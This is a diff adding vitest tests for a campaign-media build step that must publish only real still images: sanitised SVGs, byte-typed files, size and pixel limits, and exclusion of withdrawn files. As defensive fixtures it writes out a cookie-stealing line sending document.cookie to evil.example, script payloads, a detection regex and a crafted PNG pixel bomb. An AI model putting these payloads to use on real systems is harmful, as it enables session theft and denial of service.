@@ -1,12 +1,14 @@
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { crc32, deflateSync } from 'node:zlib';
 import { unzipSync } from 'fflate';
 import sharp from 'sharp';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { InvalidInputError } from '../pull/problems';
 import { buildCampaign, PREVIEW_WIDTHS, type CampaignIndex } from './build-campaign';
 import { demoSvg } from './demo-material';
+import { hostileSvg } from './hostile-svg';
 
 const services = [
   { id: 'pressreader', slug: 'pressreader', name: 'PressReader' },
@@ -106,4 +108,93 @@ describe('buildCampaign', () => {
     expect(error).toBeInstanceOf(InvalidInputError);
     expect((error as Error).message).toContain('broken.csv, row 2, column "Fil": the file "missing.png" could not be read as an image');
   });
+});
+
+describe('buildCampaign: only still images, typed by their bytes', () => {
+  const build = (name: string, rows: string[], extra: Partial<ReturnType<typeof options>> & { maxOriginalBytes?: number } = {}) => {
+    const manifest = join(directory, 'media', name);
+    writeFileSync(manifest, [HEADER, ...rows].join('\n'));
+    return buildCampaign({ ...options(manifest), ...extra });
+  };
+  const problemsOf = async (promise: Promise<unknown>) => {
+    const error = await promise.catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(InvalidInputError);
+    return (error as InvalidInputError).message;
+  };
+
+  it('publishes a PNG named .jpg as .png with its real type, in the zip too', async () => {
+    writeFileSync(join(directory, 'media', 'really-a-png.jpg'), readFileSync(join(directory, 'media', 'screen.png')));
+    const index = await build('typed.csv', ['typed,T,PressReader,screen-16x9,nb,really-a-png.jpg,NTB,gitt,']);
+    expect(index.assets[0]!.original).toMatchObject({ href: '/kampanjer/filer/typed.png', type: 'image/png' });
+    const zip = unzipSync(readFileSync(join(directory, 'out', 'files', 'pressreader-kampanjemateriell.zip')));
+    expect(Object.keys(zip)).toEqual(['typed.png']);
+  });
+
+  it('publishes a hostile SVG only sanitised, with previews drawn from the sanitised file', async () => {
+    writeFileSync(join(directory, 'media', 'hostile.svg'), hostileSvg((v) => `alert('${v}')`));
+    const index = await build('hostile.csv', ['hostile,H,PressReader,feed-1x1,nb,hostile.svg,NTB,gitt,']);
+    const published = readFileSync(join(directory, 'out', 'files', 'hostile.svg'), 'utf8');
+    expect(published).not.toMatch(/<script|\bon[a-z]+=|javascript:|foreignObject|evil\.example/i);
+    expect(index.assets[0]!.original.type).toBe('image/svg+xml');
+    expect(logs.join('\n')).toMatch(/hostile \(row 2\): removed from the SVG: .*evil\.example/);
+  });
+
+  it('refuses HTML, JavaScript, XML, PDF and unknown bytes whatever their names, naming file, row and column, and publishes nothing', async () => {
+    const files: Record<string, string | Uint8Array> = {
+      'page.png': '<!DOCTYPE html><html><script>alert(1)</script></html>',
+      'code.svg': 'document.location="https://evil.example/?"+document.cookie',
+      'feed.svg': '<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
+      'flyer.jpg': '%PDF-1.4\n/JS (app.alert(1))\n%%EOF',
+      'noise.webp': new Uint8Array([0, 159, 146, 150, 255, 1, 2, 3]),
+    };
+    for (const [name, content] of Object.entries(files)) writeFileSync(join(directory, 'media', name), content);
+    const message = await problemsOf(build('refused.csv', Object.keys(files).map((f, i) => `r${i},R,PressReader,feed-1x1,nb,${f},NTB,gitt,`)));
+    expect(message).toContain('refused.csv, row 2, column "Fil": the file "page.png" is not published: the file is HTML');
+    expect(message).toContain('refused.csv, row 3, column "Fil": the file "code.svg" is not published: the file is text, not an image');
+    expect(message).toContain('refused.csv, row 4, column "Fil": the file "feed.svg" is not published: the file is XML whose root element is <rss>, not SVG');
+    expect(message).toContain('refused.csv, row 5, column "Fil": the file "flyer.jpg" is not published: the file is a PDF');
+    expect(message).toContain('refused.csv, row 6, column "Fil": the file "noise.webp" is not published: the file is of an unknown type');
+    expect(existsSync(join(directory, 'out', 'index.json'))).toBe(false);
+  });
+
+  it('refuses a file over the size limit', async () => {
+    const message = await problemsOf(build('big.csv', ['big,B,PressReader,screen-16x9,nb,screen.png,NTB,gitt,'], { maxOriginalBytes: 1000 }));
+    expect(message).toMatch(/big\.csv, row 2, column "Fil": the file "screen\.png" could not be read as an image: the file is .* MB, more than the limit of 0\.0 MB/);
+  });
+
+  it('refuses an image that would decode to more pixels than the limit', async () => {
+    // A valid PNG header claiming 20000 x 20000 pixels (1.2 GB decoded) in a file of a few bytes.
+    const chunk = (type: string, data: Buffer) => {
+      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+      const length = Buffer.alloc(4);
+      length.writeUInt32BE(data.length);
+      const crc = Buffer.alloc(4);
+      crc.writeUInt32BE(crc32(body));
+      return Buffer.concat([length, body, crc]);
+    };
+    const header = Buffer.alloc(13);
+    header.writeUInt32BE(20000, 0);
+    header.writeUInt32BE(20000, 4);
+    header.set([8, 2, 0, 0, 0], 8);
+    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', Buffer.alloc(0))]);
+    writeFileSync(join(directory, 'media', 'bomb.png'), png);
+    const message = await problemsOf(build('bomb.csv', ['bomb,B,PressReader,screen-16x9,nb,bomb.png,NTB,gitt,']));
+    expect(message).toMatch(/bomb\.csv, row 2, column "Fil": the file "bomb\.png" could not be read as an image: .*(pixel|megapixels)/);
+  });
+
+  it('leaves out a copy of a withdrawn file under another name or path', async () => {
+    mkdirSync(join(directory, 'media', 'copies'), { recursive: true });
+    writeFileSync(join(directory, 'media', 'copies', 'face-copy.png'), readFileSync(join(directory, 'media', 'secret-face.png')));
+    const index = await build('copies.csv', [
+      'face,F,PressReader,feed-1x1,nb,secret-face.png,NTB,trukket,',
+      'face-again,F2,Filmbib,feed-1x1,nn,./secret-face.png,NTB,gitt,',
+      'face-copy,F3,Filmbib,feed-1x1,se,copies/face-copy.png,NTB,gitt,',
+      'screen,S,Filmbib,screen-16x9,nb,screen.png,NTB,gitt,',
+    ]);
+    expect(index.assets.map((a) => a.id)).toEqual(['screen']);
+    expect(index.excluded).toEqual({ withdrawn: 3, expired: 0 });
+    const secret = readFileSync(join(directory, 'media', 'secret-face.png'));
+    for (const file of files()) expect(readFileSync(join(directory, 'out', 'files', file)).equals(secret), file).toBe(false);
+  });
+  const files = () => readdirSync(join(directory, 'out', 'files')).sort();
 });
